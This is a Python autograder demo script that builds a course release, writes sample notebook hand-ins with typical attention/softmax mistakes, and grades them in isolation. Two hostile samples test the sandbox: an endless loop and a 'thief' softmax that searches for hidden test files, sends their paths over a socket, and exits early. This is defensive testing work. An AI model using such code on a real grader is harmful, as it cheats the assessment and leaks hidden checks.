"""The whole loop on sample hand-ins: release, hand in, grade, see what was found."""

import shutil
from collections.abc import Sequence
from pathlib import Path

import nbformat
from nbformat.notebooknode import NotebookNode
from rich.console import Console

from autograder.authoring.executed import executed
from autograder.authoring.notebooks import source_notebook
from autograder.authoring.release import build_release
from autograder.commands import table
from autograder.grading.mistakes import mistakes_of
from autograder.results.result import Result
from autograder.running.options import Options
from course.kit.errors import UserError

UNIT = "attention"
WRONG_TURNS = (
    "unstable-exponent",
    "axis-ignored",
    "softmax-over-queries",
    "not-scaled",
    "scaled-by-length",
    "mask-inverted",
    "nothing-to-see-gives-nan",
    "query-and-key-swapped",
)
_ENDLESS = """
def softmax(x, axis=-1):
    while True:
        pass
"""
_THIEF = '''
import glob, os, socket, sys

def softmax(x, axis=-1):
    """Look for the hidden checks, tell somebody, and leave before anybody asks."""
    found = glob.glob("/**/hidden/test_*.py", recursive=True)
    try:
        socket.create_connection(("127.0.0.1", 80), timeout=1).sendall(repr(found).encode())
    except OSError:
        pass
    os._exit(0)
'''


def run_demo(out: Path, jobs: int, console: Console) -> Sequence[Result]:
    """Build the release, make hand-ins, grade them in isolation, and print what was found.

    Args:
        out: the directory for all of it; what an earlier demonstration left there is replaced.
        jobs: hand-ins at a time.
        console: where to print.

    Raises:
        UserError: the directory holds something else.
        IsolationError: this host gives no isolation.
    """
    from autograder.commands.app import grade_with_progress
    from autograder.running.submissions import find_submissions

    mark = out / ".demo"
    if out.exists() and any(out.iterdir()) and not mark.exists():
        raise UserError(f"{out} holds something else; name another directory with --out.")
    shutil.rmtree(out, ignore_errors=True)
    out.mkdir(parents=True)
    mark.touch()
    console.print("1. The student bundle: stubs, notebooks, public checks, kit.", highlight=False)
    build_release(out / "release")
    console.print("2. Sample hand-ins; Jupyter runs the solved notebook.", highlight=False)
    write_samples(out / "submitted", out / "release")
    console.print("3. Grading, each hand-in in a process of its own that sees no check.")
    submissions = find_submissions([out / "submitted"])
    options = Options(out=out / "results", jobs=jobs)
    summary = grade_with_progress(submissions, options, console)
    console.print()
    table.show(summary, console)
    console.print(f"The results: {out / 'results'}/NAME/{UNIT}.json", highlight=False)
    return summary.results


def write_samples(directory: Path, release: Path) -> None:
    """Write the sample hand-ins in nbgrader's layout: `NAME/UNIT/UNIT.ipynb`."""
    solved = source_notebook(UNIT, "en")
    _write(directory, "solved", executed(UNIT, "en"))
    untouched = release / "course" / "notebooks" / "en" / f"{UNIT}.ipynb"
    _write(directory, "untouched", nbformat.read(untouched, as_version=4))
    known = {item.name: item for item in mistakes_of(UNIT)}
    for name in WRONG_TURNS:
        wrong = known[name]
        _write(directory, f"wrong-{name}", _with(solved, wrong.exercise, wrong.definition))
    _write(directory, "hostile-endless", _with(solved, "softmax", _ENDLESS))
    _write(directory, "hostile-thief", _with(solved, "softmax", _THIEF))


def _with(notebook: NotebookNode, exercise: str, source: str) -> NotebookNode:
    """Return a copy of a notebook in which one exercise is written again, otherwise."""
    copy = nbformat.from_dict(notebook.copy())
    copy.cells = [nbformat.from_dict(dict(cell)) for cell in notebook.cells]
    for cell in copy.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == exercise:
            cell.source = f"{cell.source}\n\n{source.strip()}"
    return copy


def _write(directory: Path, name: str, notebook: NotebookNode) -> None:
    folder = directory / name / UNIT
    folder.mkdir(parents=True)
    nbformat.write(notebook, folder / f"{UNIT}.ipynb")
